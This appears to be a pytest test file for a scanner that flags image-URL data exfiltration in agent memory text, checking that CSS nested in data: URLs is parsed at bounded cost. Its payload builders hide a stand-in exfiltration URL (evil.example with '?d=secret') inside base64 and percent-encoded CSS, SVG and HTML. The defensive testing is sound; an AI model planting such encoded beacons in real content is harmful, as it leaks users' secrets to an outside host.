"""CSS read inside a ``data:`` URL costs what the same CSS costs inline (adversary13 D6): each
URL a nested document fetches was searched for in the whole tag that holds it, where a decoded
document's URLs are written nowhere (20,000 ``url()`` of 320 KB took 12 s). Counted in the
characters searched and the Python calls, never timed; and charged to the text's budget."""

from __future__ import annotations

import base64
import urllib.parse
from pathlib import Path

import pytest
from hotplex import Project
from hotplex.scanning import fetched, injection, stylesheets
from hotplex.text import memo
from hotplex_testing import instances_made
from test_findings_cost import _calls

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "basic"
EVIL = "https://evil.example/x.png?d=secret"


def _sheet(rules: int) -> str:
    return "a{b:url(#x)}" * rules + f"x{{background:url({EVIL})}}"


def _base64(media_type: str, document: str) -> str:
    return f"data:{media_type};base64,{base64.b64encode(document.encode()).decode()}"


PAYLOADS = {
    "css base64": lambda n: f'<link rel=stylesheet href="{_base64("text/css", _sheet(n))}">\n',
    "css percent": lambda n: (
        f'<link rel=stylesheet href="data:text/css,{urllib.parse.quote(_sheet(n), safe="")}">\n'
    ),
    "svg style": lambda n: '<iframe src="{}"></iframe>\n'.format(
        _base64("image/svg+xml", f"<svg><style>{_sheet(n)}</style></svg>")
    ),
    "html style attribute": lambda n: '<iframe src="{}"></iframe>\n'.format(
        _base64("text/html", f'<div style="{"b:url(#x);" * n}b:url({EVIL})">x</div>')
    ),
    "foreign hosts": lambda n: '<link rel=stylesheet href="{}">\n'.format(
        _base64("text/css", "".join(f"a{{b:url(https://h{i}.example/)}}" for i in range(n)))
    ),
}


@pytest.fixture
def searched(monkeypatch) -> list[fetched.Cursor]:
    """Every cursor that places a URL in the text, to count what it searched."""
    return instances_made(monkeypatch, fetched, "Cursor")


def _checked(text: str) -> list[str]:
    with memo.uncached():
        answer = Project.load(EXAMPLE).check({"MEMORY.md": text})
    return [finding["rule"] for finding in answer.to_json()["findings"]]


@pytest.mark.parametrize("kind", PAYLOADS)
def test_twice_the_rules_of_a_nested_style_sheet_cost_twice(searched, kind) -> None:
    # Sizes just past 2 KB and 4 KB of CSS: a style sheet is tokenized in pieces growing
    # fourfold (stylesheets.Known), the same number of them at both.
    rules = 80 if kind == "foreign hosts" else 180
    small, large = PAYLOADS[kind](rules), PAYLOADS[kind](2 * rules)
    for text in (small, large):
        searched.clear()
        assert "image-url-data" in _checked(text)
        # Each tag is searched through a few times in all (by the rule that reads the text
        # as written, the attribute its URL decodes from, the rendered text), not once a URL.
        assert sum(cursor.searched for cursor in searched) <= 4 * len(text)
    assert _calls(_checked, large) <= 2.2 * _calls(_checked, small)


def test_the_urls_of_one_tag_are_placed_in_the_order_written() -> None:
    text = '<img src="https://a.example/x" srcset="https://a.example/x 1x, https://b.example/ 2x">'
    cursor = fetched.Cursor(text)
    first = cursor.place("https://a.example/x", 0, len(text))
    second = cursor.place("https://a.example/x", 0, len(text))
    assert text[first[0] - 5 : first[0]] == 'src="'
    assert text[second[0] - 8 : second[0]] == 'srcset="'
    assert text[slice(*cursor.place("https://b.example/", 0, len(text)))] == "https://b.example/"
    # A URL written nowhere in the tag (decoded from a nested document) is placed at the tag,
    # and so is every one after it, unsearched.
    assert cursor.place("https://c.example/", 0, len(text)) == (0, len(text))
    done = cursor.searched
    assert cursor.place("https://a.example/x", 0, len(text)) == (0, len(text))
    assert cursor.searched == done


@pytest.mark.parametrize("kind", ["css base64", "html style attribute"])
def test_css_read_inside_a_data_url_is_charged_to_the_texts_budget(kind) -> None:
    text = PAYLOADS[kind](400)
    budget = fetched.Budget(10**9)
    fetched.read(text, 0, budget)
    assert budget.spent >= len("a{b:url(#x)}") * 400
    spent = fetched.Budget(len(text))
    spent.spent = spent.limit + 1  # what the text read before left nothing
    seen = fetched.read(text, 0, spent)
    assert seen.unread == 0
    assert not [f for f in seen.fetches if f.host == "evil.example"]


def test_a_tags_own_url_after_a_nested_documents_is_placed_where_written() -> None:
    """A nested document's URLs, written nowhere, are placed with a cursor of their own: the
    tag's own URL after them is still found where it is written, a finding of its own."""
    document = (
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a"/></svg>'
    )
    data = _base64("image/svg+xml", document)
    text = f'<img src="{data}" srcset="https://evil2.example/x?d=1 1x">\n'
    with memo.uncached():
        answer = Project.load(EXAMPLE).check({"MEMORY.md": text})
    columns = {f["column"] for f in answer.to_json()["findings"] if f["rule"] == "image-url-data"}
    assert columns == {1, text.index("https://evil2") + 1}


def test_the_css_tokenized_for_the_testers_payload_grows_as_the_text(monkeypatch) -> None:
    """adversary14 D9's payload (a ``data:`` SVG whose style sheet holds n ``url()``): the
    characters tinycss2 tokenizes, in every reading of the text, at n and 2n."""
    tokenizer = stylesheets.tinycss2()
    tokenized: list[int] = []
    parse = tokenizer.parse_component_value_list

    def counted(css: str, *args, **kwargs):
        tokenized.append(len(css))
        return parse(css, *args, **kwargs)

    monkeypatch.setattr(tokenizer, "parse_component_value_list", counted)
    work = []
    for rules in (1000, 2000):
        tokenized.clear()
        stylesheets._piece_tokens.cache_clear()
        assert "image-url-data" in _checked(PAYLOADS["svg style"](rules))
        work.append(sum(tokenized))
        # Read four times (the SVG as HTML and as XML, in the text as written and as rendered),
        # the style sheet is tokenized once, in pieces growing fourfold (those short of the
        # whole a third more than the largest of them): under two and a half times its size.
        assert sum(tokenized) <= 2.5 * len(_sheet(rules))
    assert work[1] <= 2.1 * work[0]


def test_css_is_charged_at_what_tokenizing_it_costs() -> None:
    """tinycss2 costs a character what html.parser costs several: a reading's budget counts
    the CSS it tokenizes at that rate, so a text of style sheets reaches it as soon as markup
    costing as much would (unread-markup past it)."""
    css = _sheet(400)
    budget = fetched.Budget(10**9)
    fetched.read(f"<style>{css}</style>", 0, budget)
    assert budget.spent >= stylesheets.RATE * len(css)
    # A style sheet in a data: URL, with a budget for the markup and twice the CSS read as
    # markup: tokenizing it costs more than that, so it is not read to its end.
    text = PAYLOADS["css base64"](400)
    seen = fetched.read(text, 0, fetched.Budget(len(text) + 2 * len(css)))
    assert seen.unread == 0


def _notes(count: int) -> str:
    return "".join(
        f"- note {i}: fixed the <style> in page{i}.html, see `x{i}`\n\n" for i in range(count)
    )


def test_notes_naming_style_a_thousand_times_cost_as_their_length() -> None:
    """Each "<style>" a note names opens raw text to the end, read again as HTML from there: each
    such reading built the line starts of all the rest, took every clean cut after it and sorted
    them all again, though it stops at the first (a note file of 1,600 took 8 s, 3,200 minutes)."""
    small = _calls(injection.scan, _notes(400))
    assert _calls(injection.scan, _notes(800)) <= 2.3 * small  # 2.7 before
